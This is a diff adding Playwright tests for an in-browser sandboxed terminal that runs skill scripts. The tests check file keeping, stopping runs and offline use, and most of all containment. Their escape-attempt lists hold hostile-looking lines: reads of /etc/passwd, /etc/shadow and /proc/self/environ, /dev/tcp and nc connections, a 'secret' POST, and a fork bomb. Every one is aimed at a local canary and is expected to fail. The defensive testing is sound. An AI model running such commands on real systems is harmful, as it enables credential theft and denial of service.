@@ -1,0 +1,276 @@
+import { createServer, type Server } from "node:net";
+import { expect, type Page, test } from "@playwright/test";
+import { findings } from "./findings.ts";
+
+// Each run is a frame with a process and a worker of its own, of which these tests start many.
+test.slow();
+
+/** The terminal of a sample, with a folder to work in. */
+async function openTerminal(page: Page) {
+  await page.goto("/try/first-look");
+  await expect(page.getByRole("list", { name: "Loaded skills" })).toContainText("git-helper");
+  await page.keyboard.press("Control+k");
+  await page.getByRole("combobox", { name: /find/i }).fill("Terminal");
+  await page.keyboard.press("Enter");
+  const terminal = page.getByRole("region", { name: "Terminal" });
+  const command = terminal.getByRole("textbox", { name: "Command" });
+  await expect(command).toBeFocused();
+  const status = terminal.getByRole("status");
+  return {
+    terminal,
+    command,
+    status,
+    screen: terminal.locator(".xterm-rows"),
+    async run(line: string, ended = "Done") {
+      await command.fill(line);
+      await command.press("Enter");
+      await expect(status).toHaveText(ended, { timeout: 30_000 });
+    },
+  };
+}
+
+test("a script runs by its button and by hand, and what it makes is kept on a click", { tag: "@smoke" }, async ({
+  page,
+}) => {
+  const { terminal, command, screen, run } = await openTerminal(page);
+  await run("mkdir -p out && printf 'name,count\\na,1\\n' > out/table.csv && node -p '6 * 7' && ls out");
+  await expect(screen).toContainText("42");
+  await expect(screen).toContainText("table.csv");
+  const made = terminal.getByRole("group", { name: /1 file changed/ });
+  await expect(made.getByRole("table")).toContainText("count");
+  expect(await findings(page)).toEqual([]);
+  await made.getByRole("button", { name: "Keep all" }).click();
+  await expect(made).toHaveCount(0);
+  await expect(page.getByRole("tree", { name: "Files" })).toContainText("out");
+  // The next line sees what was kept, from the folder where the last one ended.
+  await run("cd out && cat table.csv | wc -l");
+  await run("pwd");
+  await expect(screen).toContainText("/workspace/out");
+  await command.press("ArrowUp");
+  await command.press("ArrowUp");
+  await expect(command).toHaveValue("cd out && cat table.csv | wc -l");
+});
+
+test("a run that is not kept or stopped leaves nothing, and Run begins a script", async ({ page }) => {
+  const { terminal, command, run } = await openTerminal(page);
+  await run("echo gone > note.txt");
+  await terminal.getByRole("button", { name: "Keep none" }).click();
+  await run("cat note.txt", "Ended with 1");
+
+  // A run that never ends keeps nothing waiting, is gone when it is stopped, and the next one begins.
+  await command.fill("echo begun; node -e 'for (;;);'");
+  await command.press("Enter");
+  await expect(terminal.getByRole("button", { name: "Stop run" })).toBeVisible();
+  await command.fill("typed meanwhile");
+  await expect(command).toHaveValue("typed meanwhile");
+  await terminal.getByRole("button", { name: "Stop run" }).click();
+  await expect(terminal.getByRole("status")).toHaveText("Stopped. Nothing was changed.");
+  await run("exit 3", "Ended with 3");
+
+  // On a phone, too, where a file and the conversation are panels of their own.
+  await page.setViewportSize({ width: 390, height: 844 });
+  await page.goto("/try/first-look?file=.agents/skills/git-helper/scripts/recent.sh");
+  await page.getByRole("button", { name: "Run", exact: true }).click();
+  await expect(page.getByRole("region", { name: "Terminal" }).locator(".xterm-rows")).toContainText(
+    "git: not available",
+  );
+});
+
+test("who has run something once goes on without a network", async ({ page, context }) => {
+  const { run, screen } = await openTerminal(page);
+  await run("node -p '6 * 7'");
+  await context.setOffline(true);
+  // Each run is another frame.
+  await run("node -p '6 * 8'");
+  await run("echo abc | sed 's/b/-/'");
+  await expect(screen).toContainText("48");
+  await expect(screen).toContainText("a-c");
+});
+
+/** The attempts as a list in JavaScript: names, and functions that throw where nothing was reached. */
+function inOrder(list: Readonly<Record<string, string>>): string {
+  return Object.entries(list)
+    .map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`)
+    .join(",\n");
+}
+
+/** What a script in the page's own languages tries; each is to fail, and says so. */
+const attempts: Readonly<Record<string, string>> = {
+  fetch: "await fetch(site)",
+  "an import by address": "await import(site + '/x.js')",
+  "a part of Node with a network": "require('http').get(site)",
+  net: "require('net').connect(canary)",
+  dns: "require('dns').lookup('x.example')",
+  tls: "require('tls').connect(443)",
+  "another thread": "new (require('worker_threads').Worker)('x')",
+  "the sandbox's own global": "globalThis.constructor.constructor('return postMessage')()('x')",
+  "postMessage to others": "postMessage('x', '*')",
+  "the page": "window.top.location = site",
+  opener: "opener.location = site",
+  "its own address": "location.href = site",
+  "a WebSocket": "new WebSocket(site)",
+  "a request object": "new XMLHttpRequest().open('GET', site)",
+  beacon: "navigator.sendBeacon(site, 'x')",
+  storage: "indexedDB.open('x')",
+  "local storage": "localStorage.setItem('a', 'b')",
+  cookies: "document.cookie.length",
+  "an image": "new Image().src = site",
+  WebRTC: "new RTCPeerConnection()",
+  "a clock of shared memory": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1)",
+  WebAssembly: "new WebAssembly.Memory({ initial: 1 })",
+  "what the sandbox calls": "__native.call('fetch', '[]').nothing.here",
+  "a file that was not given": "require('fs').readFileSync('/etc/passwd')",
+  "above the root": "require('fs').readFileSync('../../../../../../etc/passwd')",
+  "a link out": "require('fs').symlinkSync('/proc/self/environ', 'l'); require('fs').readFileSync('l')",
+};
+
+const shellAttempts: readonly string[] = [
+  "curl http://127.0.0.1:PORT",
+  "wget -O- http://127.0.0.1:PORT",
+  "cat < /dev/tcp/127.0.0.1/PORT",
+  "exec 3<>/dev/tcp/127.0.0.1/PORT",
+  "nc 127.0.0.1 PORT",
+  "git clone http://127.0.0.1:PORT/x",
+  "npm install left-pad",
+  "pip install requests",
+  "cat /etc/shadow",
+  "cat ../../../../etc/hosts",
+  "ln -s / root && cat root/etc/passwd",
+  "ssh user@127.0.0.1 -p PORT",
+];
+
+test("no script gets out of the sandbox, by JavaScript or by the shell", async ({ page }) => {
+  const canary = await listen();
+  const { screen, run, command, status } = await openTerminal(page);
+  const asked: string[] = [];
+  // What a policy refuses is told as a request, too, and never has an answer.
+  page.context().on("response", (response) => asked.push(response.url()));
+  const script = `const site = 'http://127.0.0.1:${canary.port}', canary = ${canary.port};
+    (async () => {
+      let refused = 0;
+      for (const [name, attempt] of [${inOrder(attempts)}]) {
+        try { await attempt(); console.log('ESCAPED ' + name); } catch { refused++; }
+      }
+      console.log(refused + ' refused');
+    })();`;
+  await run(`echo ${Buffer.from(script).toString("base64")} | base64 -d > /tmp/a.js && node /tmp/a.js`);
+  await expect(screen).toContainText(`${Object.keys(attempts).length} refused`);
+  await expect(screen).not.toContainText("ESCAPED");
+  const lines = shellAttempts.map(
+    (line) => `(${line.replaceAll("PORT", String(canary.port))}) > /dev/null 2>&1 || refused=$((refused + 1))`,
+  );
+  await run(`${lines.join("; ")}; echo $refused lines refused`);
+  await expect(screen).toContainText(`${shellAttempts.length} lines refused`);
+
+  // A fork bomb ends its own line.
+  await run(":(){ :|:& };: ; echo $((20 + 22)) escaped", "Ended with 126");
+  await expect(screen).not.toContainText("42 escaped");
+
+  // Floods end the run and not the page.
+  await command.fill("node -e 'for (;;) console.log(\"x\".repeat(9999))'");
+  await command.press("Enter");
+  await expect(status).toHaveText("Ended, as it printed more than can be shown. Nothing was changed.", {
+    timeout: 40_000,
+  });
+  await run("echo still here");
+  expect(canary.connections()).toBe(0);
+  expect(asked.filter((address) => !address.startsWith("blob:") && !/\/run\/|\/_next\//.test(address))).toEqual([]);
+  await canary.close();
+});
+
+/** What code would try that had broken out of its language, into the worker itself. `say` tells what got out. */
+const workerAttempts: Readonly<Record<string, string>> = {
+  fetch: "await fetch(site)",
+  "fetch without an answer": "await fetch(site, { mode: 'no-cors', method: 'POST', body: 'secret' })",
+  "fetch of this site": "await fetch(own + '/api/health')",
+  "fetch of an address of data": "await fetch('data:text/plain,x')",
+  XMLHttpRequest:
+    "await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open('GET', site); r.send(); })",
+  WebSocket:
+    "await new Promise((done, fail) => { const s = new WebSocket(site.replace('http', 'ws')); s.onopen = done; s.onerror = fail; })",
+  EventSource:
+    "await new Promise((done, fail) => { const s = new EventSource(site); s.onopen = done; s.onerror = fail; })",
+  WebTransport: "await new WebTransport(site.replace('http', 'https')).ready",
+  "an import": "await import(site + '/x.js')",
+  "an import of this site": "await import(own + '/run/frame.js')",
+  "an import with the secret in its address": "await import(own + '/run/frame.js?secret')",
+  "an import of data": "await import('data:text/javascript,export default 1')",
+  importScripts: "importScripts(site + '/x.js')",
+  "a worker by address":
+    "await new Promise((done, fail) => { const w = new Worker(site + '/x.js'); w.onmessage = done; w.onerror = fail; })",
+  "a worker of this site":
+    "await new Promise((done, fail) => { const w = new Worker(own + '/run/worker.js'); w.onmessage = done; w.onerror = fail; })",
+  "a worker of a worker":
+    "await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(site) + ').then(() => postMessage(1), () => close())']))); w.onmessage = done; w.onerror = fail; setTimeout(fail, 500); })",
+  SharedWorker: "new SharedWorker(site + '/x.js')",
+  "a channel to other pages": "new BroadcastChannel('skillground').postMessage('x'); throw 0",
+  IndexedDB:
+    "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })",
+  caches: "await caches.open('x')",
+  "the origin's files": "await navigator.storage.getDirectory()",
+  cookies: "await cookieStore.getAll()",
+  beacon: "if (navigator.sendBeacon(site)) return; throw 0",
+  "service workers": "await navigator.serviceWorker.register(own + '/service-worker.js')",
+  locks: "await navigator.locks.request('x', () => 1)",
+  "shared memory": "new SharedArrayBuffer(8)",
+  eval: "(0, eval)('1')",
+  Function: "new Function('return 1')()",
+  "a font": "const f = new FontFace('x', 'url(' + site + ')'); await f.load()",
+  "a picture": "await createImageBitmap(await (await fetch(site)).blob())",
+  WebRTC: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] }).createDataChannel('x')",
+  streaming: "await WebAssembly.compileStreaming(fetch(site))",
+  "the page's document": "document.body.append('x')",
+  "the page's window": "parent.postMessage('x', '*')",
+  geolocation: "navigator.geolocation.getCurrentPosition(() => 0)",
+  notifications: "if ((await Notification.requestPermission()) === 'granted') return; throw 0",
+};
+
+test("code that has taken the worker over reaches no server, page or storage", async ({ page, baseURL }) => {
+  const canary = await listen();
+  await page.goto("/guide");
+  const asked: string[] = [];
+  // What a policy refuses is told as a request, too, and never has an answer.
+  page.context().on("response", (response) => asked.push(response.url()));
+  const script = `const site = 'http://127.0.0.1:${canary.port}', own = ${JSON.stringify(baseURL)};
+    (async () => {
+      const out = [];
+      for (const [name, attempt] of [${inOrder(workerAttempts)}]) {
+        const late = new Promise((done, fail) => setTimeout(fail, 1500));
+        try { await Promise.race([attempt(), late]); out.push(name); } catch {}
+      }
+      postMessage({ kind: 'output', stream: 'out', text: JSON.stringify(out) });
+    })();`;
+  const got = await page.evaluate(async (code) => {
+    const frame = document.createElement("iframe");
+    frame.setAttribute("sandbox", "allow-scripts");
+    frame.src = "/run/page.html";
+    const said = new Promise<string>((done) => {
+      addEventListener("message", ({ data }) => {
+        if (data.kind === "frame") frame.contentWindow?.postMessage({ kind: "worker", script: code }, "*");
+        else done(data.text);
+      });
+    });
+    document.body.append(frame);
+    return said;
+  }, script);
+  expect(JSON.parse(got)).toEqual([]);
+  expect(canary.connections()).toBe(0);
+  expect(asked.filter((address) => /secret|\/api\//.test(address))).toEqual([]);
+  await canary.close();
+});
+
+/** A server that counts who so much as connects. */
+async function listen() {
+  let connections = 0;
+  const server: Server = createServer((socket) => {
+    connections++;
+    socket.destroy();
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  const address = server.address();
+  return {
+    port: typeof address === "object" && address ? address.port : 0,
+    connections: () => connections,
+    close: () => new Promise<void>((done) => void server.close(() => done())),
+  };
+}
